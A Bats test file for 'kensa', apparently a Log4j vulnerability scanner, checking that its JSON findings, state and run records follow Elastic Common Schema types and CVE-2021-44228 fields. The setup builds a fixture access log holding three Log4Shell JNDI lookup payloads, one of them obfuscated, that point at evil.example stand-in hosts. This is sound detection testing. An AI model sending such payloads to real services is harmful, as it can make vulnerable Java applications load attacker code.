#!/usr/bin/env bats
# ecs.bats - every record kensa writes (finding alerts, inventory states,
# warnings, the run record) checked against the ECS field types by
# tests/helpers/ecs_check.py: types, dates, addresses, no null anywhere,
# no field outside kensa.* that the table does not know.  Also: the run
# record of a clean folder, the host and run ids, file.* of the file on
# disk, absolute paths, the Log4j vulnerability fields.

bats_require_minimum_version 1.5.0
load helpers

setup_file() {
    make_fixtures
    export E="$BATS_FILE_TMPDIR/ecs"
    mkdir -p "$E/logs" "$E/clean" "$E/bad" "$E/odd"
    # a log with attacks: a client address, a client field that is no
    # address (it must not land in source.ip), a JSON record
    printf '%s\n' \
      '203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://x.evil.example:1389/a} HTTP/1.1" 200 5 "-" "curl/7.0"' \
      'gateway.internal - - [11/Dec/2021:10:00:02 +0000] "GET /?q=${jndi:rmi://y.evil.example/b} HTTP/1.1" 200 5 "-" "x"' \
      '{"remote_addr":"2001:db8::7","msg":"${${lower:j}ndi:dns://z.evil.example}"}' \
      > "$E/logs/access.log"
    echo 'nothing to see' > "$E/clean/readme.txt"
    # a warning: a zip whose end record points nowhere
    printf 'PK\005\006\000\000\000\000\001\000\001\000\377\377\000\000\377\377\377\000\000\000' \
        > "$E/bad/broken.jar"
    # names with control bytes and bad UTF-8
    cp "$FX/plain/log4j-core-2.14.1.jar" "$E/odd/$(printf 'a\tb\377.jar')"
}

check() {
    python3 "$KENSA_TOP/tests/helpers/ecs_check.py" "$@"
}

@test "ecs: every record of a scan has its ECS type (alert, state, warning, run)" {
    run --separate-stderr k scan --json --all "$FX/plain" "$FX/v1" "$FX/mitigated" \
        "$FX/clean" "$FX/nested" "$E/logs" "$E/bad" "$E/odd" "$E/missing"
    [ "$status" -eq 1 ]
    echo "$output" > "$BATS_TEST_TMPDIR/all.jsonl"
    run check --expect alert,state,warning,run "$BATS_TEST_TMPDIR/all.jsonl"
    echo "$output"
    [ "$status" -eq 0 ]
}

@test "ecs: --lang ja, kensa logs and standard input give valid records too" {
    run --separate-stderr k log4j --json --lang ja "$FX/plain" "$E/bad" "$E/missing"
    echo "$output" | check --expect state,warning,run
    run --separate-stderr sh -c "cat '$E/logs/access.log' | '$KENSA' logs --json --no-summary -"
    [ "$status" -eq 1 ]
    echo "$output" | check --expect alert,run
    # from standard input there is no file on disk: no file.*
    echo "$output" | jq_alerts '.file == null and .kensa.path == "(stdin)"'
}

@test "ecs: the checker itself rejects null, wrong types and unknown names" {
    good='{"@timestamp":"2026-01-01T00:00:00.000Z","ecs":{"version":"8.11.0"},"event":{"kind":"event","action":"scan-completed","outcome":"success","start":"2026-01-01T00:00:00.000Z","end":"2026-01-01T00:00:00.000Z","duration":1,"dataset":"kensa.scan"},"host":{"name":"h","hostname":"h","os":{"type":"linux"}},"agent":{"type":"kensa","version":"0"},"process":{"args":["kensa"]},"kensa":{"scan_id":"x","scan":{"findings":{"total":0},"files":0,"bytes":0}}}'
    echo "$good" | check --expect run
    for bad in '.host.name = null' '.event.duration = "1"' '.source = {"ip": "web01"}' \
               '.event.start = "yesterday"' '.custom = "x"' '.process.args = []' \
               '.event.duration = true' '.kensa.x = null'; do
        run sh -c "echo '$good' | jq -c '$bad' | python3 '$KENSA_TOP/tests/helpers/ecs_check.py'"
        [ "$status" -eq 1 ] || { echo "accepted: $bad"; false; }
    done
}

@test "run record: a clean folder emits exactly one record, a success" {
    run --separate-stderr k scan --json "$E/clean"
    [ "$status" -eq 0 ]
    echo "$output" | only_run_record
    echo "$output" | jqe --arg r "$E/clean" '.event.kind == "event"
        and .event.action == "scan-completed" and .event.outcome == "success"
        and .kensa.scan.roots == [$r] and .kensa.scan.files == 1
        and .kensa.scan.findings.total == 0 and .kensa.scan.warnings == 0
        and (.event.duration | type == "number" and . >= 0)
        and .event.start <= .event.end
        and (.process.args | index("--json")) and .process.args[1] == "scan"' >/dev/null
}

@test "run record: counts by threat, severity and verdict; failure on errors" {
    run --separate-stderr k log4j --json "$FX/plain" "$FX/v1" "$E/missing"
    [ "$status" -eq 1 ]
    n=$(echo "$output" | jq -s '[.[] | select(.kensa.verdict)] | length')
    echo "$output" | jq -e -s --argjson n "$n" '.[-1] as $r | $r.event.action == "scan-completed"
        and $r.event.outcome == "failure"
        and $r.kensa.scan.findings.total == $n
        and ([$r.kensa.scan.findings.by_threat[]] | add) == $n
        and $r.kensa.scan.findings.by_threat["log4j1-eol"] == 1
        and ([$r.kensa.scan.findings.by_severity[]] | add) == $n
        and ([$r.kensa.scan.findings.by_verdict[]] | add) == $n
        and $r.kensa.scan.findings.by_verdict["end-of-life"] == 1
        and $r.kensa.scan.findings.by_severity.critical >= 1
        and $r.kensa.scan.errors >= 1' >/dev/null
    # relative roots are written absolute, normalised
    cd "$FX"
    run --separate-stderr k log4j --json ./plain/../plain/./
    echo "$output" | jq -e -s --arg r "$FX/plain" '.[-1].kensa.scan.roots == [$r]' >/dev/null
}

@test "every record names the host, the agent and the run" {
    run --separate-stderr k log4j --json "$FX/plain" "$E/bad"
    id=$(echo "$output" | jq -r -s '.[0].kensa.scan_id')
    [[ "$id" =~ ^[0-9a-f]{32}$ ]]
    echo "$output" | jq -e -s --arg id "$id" 'all(.kensa.scan_id == $id
        and .agent.type == "kensa" and (.agent.version | length > 0)
        and (.host.name | length > 0) and .host.hostname == .host.name)' >/dev/null
    if [ -r /etc/machine-id ] && grep -Eq '^[0-9a-f]{32}$' /etc/machine-id; then
        echo "$output" | jq -e -s --arg m "$(cat /etc/machine-id)" 'all(.host.id == $m)' >/dev/null
    fi
    # another run, another id
    run --separate-stderr k log4j --json "$E/clean"
    [ "$(echo "$output" | jq -r .kensa.scan_id)" != "$id" ]
}

@test "--root: host.id is the image's etc/machine-id, and only a valid one" {
    R="$BATS_TEST_TMPDIR/img"
    mkdir -p "$R/etc" "$R/opt"
    echo 'ID=debian' > "$R/etc/os-release"
    echo 'img01' > "$R/etc/hostname"
    echo '0123456789ABCDEF0123456789abcdef' > "$R/etc/machine-id"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$R/opt/"
    run --separate-stderr k log4j --json --root "$R" /opt
    echo "$output" | jq -e -s 'all(.host.id == "0123456789abcdef0123456789abcdef"
        and .host.name == "img01")' >/dev/null
    echo "$output" | check --expect state,run
    printf 'uninitialized\n' > "$R/etc/machine-id"
    run --separate-stderr k log4j --json --root "$R" /opt
    echo "$output" | jq -e -s 'all(.host.id == null)' >/dev/null
    rm "$R/etc/machine-id"
    ln -s /etc/machine-id "$R/etc/machine-id"   # resolves inside the image
    run --separate-stderr k log4j --json --root "$R" /opt
    echo "$output" | jq -e -s 'all(.host.id == null)' >/dev/null
}

@test "findings: file.* of the file on disk, absolute paths, both hashes" {
    cd "$FX"
    run --separate-stderr k log4j --json nested/../nested/app.war plain/./log4j-core-2.14.1.jar
    [ "$status" -eq 1 ]
    war="$FX/nested/app.war"
    jar="$FX/plain/log4j-core-2.14.1.jar"
    echo "$output" | jqe --arg p "$war" --arg s "$(stat -c %s "$war")" \
        --arg u "$(stat -c %u "$war")" --arg g "$(stat -c %g "$war")" \
        --arg m "$(stat -c %04a "$war")" --arg sha "$(sha256sum "$war" | cut -c1-64)" -s '
        map(select(.file.path == $p)) | length == 1 and all(.file.name == "app.war"
        and .file.directory == ($p | sub("/app.war$"; ""))
        and .file.size == ($s | tonumber) and .file.uid == $u and .file.gid == $g
        and .file.mode == $m and (.file.mtime | test("^[0-9-]{10}T[0-9:.]{12}Z$"))
        and (.kensa.path | startswith($p + "!/"))
        and (.related.hash | length == 2) and (.related.hash | index($sha))
        and .related.hash[0] == .kensa.object.hash.sha256)' >/dev/null
    echo "$output" | jq -e -s --arg p "$jar" 'map(select(.file.path == $p))
        | length == 1 and all(.related.hash == [.file.hash.sha256]
                              and .kensa.path == $p)' >/dev/null
}

@test "file.owner and file.group: the host's names, cached; none for an id without a name or under --root" {
    T="$BATS_TEST_TMPDIR/own"; mkdir -p "$T/a" "$T/b"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$T/a/x.jar"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$T/a/y.jar"
    chown 0:0 "$T/a/x.jar" "$T/a/y.jar"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$T/b/z.jar"
    chown 54321:54322 "$T/b/z.jar"   # no such user or group
    u=$(id -nu 0); g=$(getent group 0 | cut -d: -f1)
    run --separate-stderr k log4j --json "$T"
    echo "$output" | no_run | jqe -s --arg u "$u" --arg g "$g" '
        (map(select(.file.uid == "0")) | length == 2 and all(.file.owner == $u and .file.group == $g))
        and (map(select(.file.uid == "54321")) | length == 1 and
             all(.file.owner == null and .file.group == null and .file.gid == "54322"))'
    echo "$output" | check --expect state,run
    # another system's root: its uid 0 is not this host's root
    mkdir -p "$T/img/etc" "$T/img/opt"
    echo 'ID=debian' > "$T/img/etc/os-release"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$T/img/opt/"
    chown 0:0 "$T/img/opt/log4j-core-2.14.1.jar"
    run --separate-stderr k log4j --json --root "$T/img" /opt
    echo "$output" | no_run | jqe -s 'length == 1 and all(.file.uid == "0" and
        .file.owner == null and .file.group == null)'
}

@test "log4j copies: state records with vulnerability.* and a version or a range" {
    run --separate-stderr k log4j --json "$FX/plain" "$FX/mitigated" "$FX/v1"
    echo "$output" | jq_alerts '.event.kind == "state" and .package.type == "maven"'
    echo "$output" | jq_any 'select(.package.version == "2.14.1") |
        .vulnerability.enumeration == "CVE" and .vulnerability.scanner.vendor == "kensa"
        and .vulnerability.score.base == 10.0 and .vulnerability.id[0] == "CVE-2021-44228"
        and .vulnerability.reference == "https://nvd.nist.gov/vuln/detail/CVE-2021-44228"
        and (.vulnerability.description | test("^[ -~]+$"))'
    echo "$output" | jq_any 'select(.package.version == "2.16.0") | .vulnerability.score.base == 6.6'
    echo "$output" | jq_any 'select(.package.name == "log4j") | .vulnerability.score.base == 9.8'
    # a range is no version
    echo "$output" | jq_any '.kensa.version_range == "2.13.0..2.14.1" and .package.version == null'
    echo "$output" | jq -e -s '[.[] | .package.version // empty | select(test("\\.\\.| |x$"))] | length == 0' >/dev/null
    # the text report still shows the range
    run --separate-stderr k log4j -q "$FX/mitigated"
    [[ "$output" == *"2.13.0..2.14.1"* ]]
}

@test "text and CSV reports carry no run record" {
    run --separate-stderr k log4j --csv "$E/clean"
    [ "$status" -eq 0 ]
    [ -z "$output" ]
    run --separate-stderr k log4j "$E/clean"
    [ -z "$output" ]
    run "$KENSA" log4j --threads 1 --color never "$E/clean"
    [[ "$output" == *"SCAN SUMMARY"* ]]
}
